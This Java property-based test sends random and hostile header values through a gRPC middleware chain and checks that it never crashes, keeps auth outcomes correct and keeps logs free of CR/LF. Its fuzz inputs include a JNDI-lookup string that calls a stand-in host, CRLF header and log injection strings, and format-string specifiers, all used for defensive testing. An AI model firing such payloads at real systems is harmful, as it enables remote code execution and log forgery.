package io.github.grpcmiddleware.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.UnsynchronizedAppenderBase;
import io.github.grpcmiddleware.examples.ExampleServices;
import io.github.grpcmiddleware.examples.proto.GreeterGrpc;
import io.github.grpcmiddleware.examples.proto.HelloRequest;
import io.github.grpcmiddleware.examples.proto.UserRequest;
import io.github.grpcmiddleware.examples.proto.UserServiceGrpc;
import io.grpc.ManagedChannel;
import io.grpc.Metadata;
import io.grpc.Status;
import io.grpc.StatusRuntimeException;
import io.grpc.stub.MetadataUtils;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicReference;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.jspecify.annotations.Nullable;
import org.slf4j.LoggerFactory;

/**
 * Random and hostile values of every header the chain reads ({@code traceparent}, {@code
 * tracestate}, {@code baggage}, {@code x-request-id}, {@code accept-language}, {@code
 * authorization}), sometimes sent twice, through one shared Netty server with the full chain: no
 * interceptor throws, a public call always succeeds, an authenticated one ends OK or
 * UNAUTHENTICATED (never INTERNAL or UNKNOWN), the trace id echoed is always a W3C trace id, and no
 * log line or MDC value carries a CR or LF.
 */
class HostileHeadersPropertyTest {
  private static final List<String> HEADERS =
      List.of(
          "traceparent",
          "tracestate",
          "baggage",
          "x-request-id",
          "accept-language",
          "authorization");

  /** Log cardinality stays bounded: these MDC keys and no others, whatever callers send. */
  private static final java.util.Set<String> MDC_KEYS =
      java.util.Set.of("traceId", "spanId", "requestId", "locale", "principal");

  private static final String LIBRARY_LOGGERS = "io.github.grpcmiddleware";

  private static @Nullable ChainServer server;
  private static @Nullable ManagedChannel channel;
  private static final Queue<String> problems = new ConcurrentLinkedQueue<>();
  private static final Capture capture = new Capture();

  /** Records every library log line that contains CR/LF or is WARN/ERROR. */
  static final class Capture extends UnsynchronizedAppenderBase<ILoggingEvent> {
    @Override
    protected void append(ILoggingEvent event) {
      String message = event.getFormattedMessage();
      if (message.indexOf('\r') >= 0 || message.indexOf('\n') >= 0) {
        problems.add("CR/LF in log line: " + message);
      }
      for (Map.Entry<String, String> e : event.getMDCPropertyMap().entrySet()) {
        if (!MDC_KEYS.contains(e.getKey())) {
          problems.add("MDC key outside the fixed set: " + e.getKey());
        }
        if (e.getValue().indexOf('\r') >= 0 || e.getValue().indexOf('\n') >= 0) {
          problems.add("CR/LF in MDC " + e.getKey() + ": " + e.getValue());
        }
      }
      if (event.getLevel().isGreaterOrEqual(ch.qos.logback.classic.Level.WARN)) {
        problems.add(event.getLevel() + " " + event.getLoggerName() + ": " + message);
      }
    }
  }

  @BeforeContainer
  static void start() {
    Logger logger = ((LoggerContext) LoggerFactory.getILoggerFactory()).getLogger(LIBRARY_LOGGERS);
    capture.setContext(logger.getLoggerContext());
    capture.start();
    logger.addAppender(capture);
    ChainServer started =
        ChainServer.start(
            3, Chains.server(), ExampleServices.greeter(), ExampleServices.userService());
    server = started;
    channel = started.channel(Chains.anonymousClient());
  }

  @AfterContainer
  static void stop() throws InterruptedException {
    Logger logger = ((LoggerContext) LoggerFactory.getILoggerFactory()).getLogger(LIBRARY_LOGGERS);
    logger.detachAppender(capture);
    capture.stop();
    ChainServer running = server;
    if (running != null) {
      running.close();
    }
  }

  @Provide
  Arbitrary<String> hostile() {
    return Arbitraries.oneOf(
        Arbitraries.strings().ofMaxLength(80),
        Arbitraries.strings().ascii().ofMaxLength(300),
        Arbitraries.strings().withChars("0123456789abcdefABCDEF-,;=*. q\t").ofMaxLength(120),
        Arbitraries.strings().withChars("az-,;=").ofMinLength(500).ofMaxLength(900),
        Arbitraries.of(
            "\r\nX-Forged: yes",
            "ok\nINFO fake log line",
            "${jndi:ldap://evil.example/a}",
            "%n%s%x%d",
            "",
            " ",
            "\u0000\u0007",
            "😀 emoji ünïcode 中文",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
            "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
            "01-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-future",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-",
            "zh-CN;q=2, en;q=-1, *;q=0, ,,;;",
            "*",
            "zh-TW",
            "a=1,".repeat(40),
            "k=v;p=q, x".repeat(20),
            "Bearer " + Chains.TOKEN_A,
            "bEaReR    " + Chains.TOKEN_B,
            "Bearer " + Chains.TOKEN_A + " trailing",
            "Bearer\t" + Chains.TOKEN_A,
            "Basic YWxhZGRpbjpvcGVuc2VzYW1l",
            "Bearer"));
  }

  @Property(tries = 200)
  void hostileHeadersNeverBreakTheChain(
      @ForAll("hostile") String traceparent,
      @ForAll("hostile") String tracestate,
      @ForAll("hostile") String baggage,
      @ForAll("hostile") String requestId,
      @ForAll("hostile") String acceptLanguage,
      @ForAll("hostile") String authorization,
      @ForAll("hostile") String duplicate,
      @ForAll("presence") int present) {
    String[] values = {traceparent, tracestate, baggage, requestId, acceptLanguage, authorization};
    Metadata headers = new Metadata();
    for (int i = 0; i < HEADERS.size(); i++) {
      if ((present & (1 << i)) != 0) {
        headers.put(Rpc.ascii(HEADERS.get(i)), values[i]);
        if ((present & (1 << (i + 6))) != 0) {
          headers.put(Rpc.ascii(HEADERS.get(i)), duplicate);
        }
      }
    }
    AtomicReference<Metadata> responseHeaders = new AtomicReference<>();
    AtomicReference<Metadata> trailers = new AtomicReference<>();
    ManagedChannel open = channel;
    assertThat(open).isNotNull();
    var greeter =
        GreeterGrpc.newBlockingStub(open)
            .withInterceptors(
                MetadataUtils.newAttachHeadersInterceptor(headers),
                MetadataUtils.newCaptureMetadataInterceptor(responseHeaders, trailers))
            .withDeadlineAfter(10, TimeUnit.SECONDS);
    assertThat(greeter.sayHello(HelloRequest.newBuilder().setName("p").build()).getMessage())
        .isEqualTo("Hello, p!");
    assertThat(responseHeaders.get().get(Rpc.X_TRACE_ID)).matches("[0-9a-f]{32}");
    assertThat(responseHeaders.get().get(Rpc.X_TRACE_ID)).isNotEqualTo("0".repeat(32));

    var users =
        UserServiceGrpc.newBlockingStub(open)
            .withInterceptors(MetadataUtils.newAttachHeadersInterceptor(headers))
            .withDeadlineAfter(10, TimeUnit.SECONDS);
    Status.Code code;
    try {
      users.getUser(UserRequest.newBuilder().setId(1).build());
      code = Status.Code.OK;
    } catch (StatusRuntimeException e) {
      code = e.getStatus().getCode();
      assertThat(e.getStatus().getDescription()).doesNotContain("\r", "\n");
    }
    assertThat(code).isIn(Status.Code.OK, Status.Code.UNAUTHENTICATED);
    if ((present & (1 << 5)) == 0) {
      assertThat(code).isEqualTo(Status.Code.UNAUTHENTICATED);
    }
    assertThat(problems).isEmpty();
  }

  /** Which headers are present (bits 0-5) and which are sent twice (bits 6-11). */
  @Provide
  Arbitrary<Integer> presence() {
    return Arbitraries.integers().between(0, (1 << 12) - 1);
  }
}
